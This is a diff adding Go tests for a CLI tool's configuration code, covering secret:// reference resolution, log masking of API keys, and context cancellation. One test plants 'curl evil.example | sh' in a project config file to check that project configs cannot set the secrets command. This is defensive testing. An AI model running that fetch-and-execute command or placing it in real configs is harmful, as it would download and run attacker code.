@@ -0,0 +1,95 @@
+// ABOUTME: Tests for resolving secret:// references in configuration
+// ABOUTME: Verifies provider API keys are read from secrets backends and masked in logs
+
+package config
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/knadh/koanf/v2"
+	"github.com/lexlapax/magellai/internal/logging"
+	"github.com/lexlapax/magellai/pkg/keyring"
+	"github.com/lexlapax/magellai/pkg/secrets"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestGetProviderAPIKeySecretReference(t *testing.T) {
+	restore := keyring.SetBackend(keyring.NewMemoryBackend())
+	defer restore()
+	t.Setenv("MAGELLAI_TEST_OPENAI", "sk-from-env")
+
+	c := &Config{koanf: koanf.New(".")}
+	require.NoError(t, c.koanf.Set("provider.openai.api_key", "secret://env/MAGELLAI_TEST_OPENAI"))
+	require.NoError(t, c.koanf.Set("provider.anthropic.api_key", "secret://command/anthropic"))
+	require.NoError(t, c.koanf.Set("provider.gemini.api_key", "secret://env/MAGELLAI_TEST_UNSET"))
+	require.NoError(t, c.koanf.Set("secrets.command", "echo sk-ant-{key}"))
+
+	assert.Equal(t, "sk-from-env", c.GetProviderAPIKey("openai"))
+	assert.Equal(t, "sk-ant-anthropic", c.GetProviderAPIKey("anthropic"))
+	assert.Empty(t, c.GetProviderAPIKey("gemini"), "unresolvable references are not used as keys")
+
+	_, err := c.GetSecret("provider.gemini.api_key")
+	assert.ErrorIs(t, err, secrets.ErrNotFound)
+
+	value, err := c.GetSecret("secrets.command")
+	require.NoError(t, err)
+	assert.Equal(t, "echo sk-ant-{key}", value, "plain values are returned unchanged")
+}
+
+func TestSecretsMaskedInLogs(t *testing.T) {
+	restore := keyring.SetBackend(keyring.NewMemoryBackend())
+	defer restore()
+	t.Setenv("MAGELLAI_TEST_VAULTED", "resolved-from-reference")
+
+	c := &Config{koanf: koanf.New(".")}
+	require.NoError(t, c.koanf.Set("provider.openai.api_key", "configured-openai-key"))
+	require.NoError(t, c.koanf.Set("provider.gemini.api_key", "secret://env/MAGELLAI_TEST_VAULTED"))
+	require.NoError(t, c.koanf.Set("profiles.work.model", "openai/gpt-4o-mini-2024"))
+	c.maskSecrets()
+
+	assert.Equal(t, "key [REDACTED]", logging.Redact("key configured-openai-key"))
+	assert.Equal(t, "model openai/gpt-4o-mini-2024", logging.Redact("model openai/gpt-4o-mini-2024"), "other values are not secret")
+	assert.Equal(t, "ref secret://env/MAGELLAI_TEST_VAULTED", logging.Redact("ref secret://env/MAGELLAI_TEST_VAULTED"), "references are not secret")
+
+	_, err := c.GetSecret("provider.gemini.api_key")
+	require.NoError(t, err)
+	assert.Equal(t, "key [REDACTED]", logging.Redact("key resolved-from-reference"), "resolved references are masked")
+
+	require.NoError(t, c.SetValue("server.token", "runtime-server-token"))
+	assert.Equal(t, "[REDACTED]", logging.Redact("runtime-server-token"))
+}
+
+func TestSecretsCommandIgnoredInProjectConfig(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	project := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(project, ProjectConfigFile),
+		[]byte("secrets:\n  command: curl evil.example | sh\nlog:\n  level: warn\n"), 0600))
+
+	c := &Config{koanf: koanf.New("."), defaults: GetCompleteDefaultConfig(), currentDir: project}
+	require.NoError(t, c.Load(nil))
+	assert.Empty(t, c.GetString("secrets.command"), "project config cannot set the secrets command")
+	assert.Equal(t, "warn", c.GetString("log.level"), "other project settings still apply")
+
+	writeUserConfig(t, "secrets:\n  command: pass show {key}\n")
+	require.NoError(t, c.Reload())
+	assert.Equal(t, "pass show {key}", c.GetString("secrets.command"))
+}
+
+func TestGetSecretContextCancels(t *testing.T) {
+	restore := keyring.SetBackend(keyring.NewMemoryBackend())
+	defer restore()
+
+	c := &Config{koanf: koanf.New(".")}
+	require.NoError(t, c.koanf.Set("provider.openai.api_key", "secret://command/openai"))
+	require.NoError(t, c.koanf.Set("secrets.command", "sleep 5"))
+
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	_, err := c.GetSecretContext(ctx, "provider.openai.api_key")
+	assert.Error(t, err)
+	assert.Empty(t, c.GetProviderAPIKeyContext(ctx, "openai"))
+}